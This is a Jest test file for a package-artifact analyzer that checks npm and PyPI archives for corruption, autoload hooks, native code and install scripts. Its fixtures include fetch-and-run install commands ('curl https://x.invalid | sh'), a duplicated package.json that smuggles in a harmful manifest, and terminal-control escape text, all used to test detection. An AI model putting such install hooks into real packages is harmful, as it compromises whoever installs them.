import { MAX_HOOKS } from '@sallyport/domain';
import { npmPackage, rawTarball, wheel, zip } from '../testing/archives';
import { analyzeArtifact } from './analyze-artifact';

describe('process/analyze-artifact', () => {
  it.each<[string, 'npm' | 'pypi', () => Promise<Buffer> | Buffer, string, string]>([
    ['what is no tarball', 'npm', () => Buffer.from('x'), 'unknown', 'archive-corrupt'],
    ['what is no wheel', 'pypi', () => Buffer.from('x'), 'unknown', 'archive-corrupt'],
    [
      'a zip that is no wheel',
      'pypi',
      () => zip([{ name: 'a.py', content: '' }]),
      'suspicious',
      'manifest-missing',
    ],
  ])('%s is %s', async (_, ecosystem, build, verdict, rule) => {
    const analysis = await analyzeArtifact(ecosystem, await build());

    expect([analysis.verdict, analysis.findings.map((finding) => finding.rule)]).toEqual([
      verdict,
      expect.arrayContaining([rule]),
    ]);
  });

  it.each([
    ['all hooks', MAX_HOOKS, MAX_HOOKS],
    ['no hooks where they are more than are kept', MAX_HOOKS + 1, undefined],
  ])('tells %s', async (_, count, told) => {
    const files = Array.from({ length: count }, (_each, n) => [`a${n}.pth`, 'import os\n']);

    const { hooks, profile } = await analyzeArtifact('pypi', wheel(Object.fromEntries(files)));

    expect(hooks?.length).toBe(told);
    expect(profile?.hooks).toHaveLength(MAX_HOOKS);
  });

  it('says who the artifact is, what is in it and what it can do', async () => {
    const npm = await analyzeArtifact(
      'npm',
      await npmPackage(
        { name: '@s/a', version: '2.0.0', scripts: { install: 'curl x | sh' } },
        { 'a.node': Buffer.from('7f454c46', 'hex') },
      ),
    );
    const pypi = await analyzeArtifact(
      'pypi',
      wheel({ 'a.pth': 'import os' }, { name: 'Foo_Bar', version: '1.0' }),
    );

    expect(npm).toMatchObject({
      identity: { name: '@s/a', version: '2.0.0' },
      files: 2,
      capabilities: ['native-code', 'network', 'subprocess'],
    });
    expect(pypi).toMatchObject({
      identity: { name: 'Foo_Bar', version: '1.0' },
      files: 4,
      capabilities: ['autoload-file'],
    });
  });

  it('reads the last of two package.json as npm does, and says that there are two', async () => {
    const harmless = JSON.stringify({ name: 'a', version: '1.0.0' });
    const harmful = JSON.stringify({
      name: 'a',
      version: '1.0.0',
      scripts: { install: 'curl https://x.invalid | sh' },
    });

    const analysis = await analyzeArtifact(
      'npm',
      await rawTarball([
        [{ name: 'package/package.json' }, harmless],
        [{ name: 'x/package.json' }, harmful],
      ]),
    );

    expect(analysis.verdict).toBe('malicious');
  });

  it('makes hostile text printable', async () => {
    const analysis = await analyzeArtifact(
      'npm',
      await npmPackage({ scripts: { install: 'echo \u001b[2J\u202e' } }),
    );

    expect(analysis.findings[0]?.evidence).toBe('echo \\u001b[2J\\u202e');
  });
});
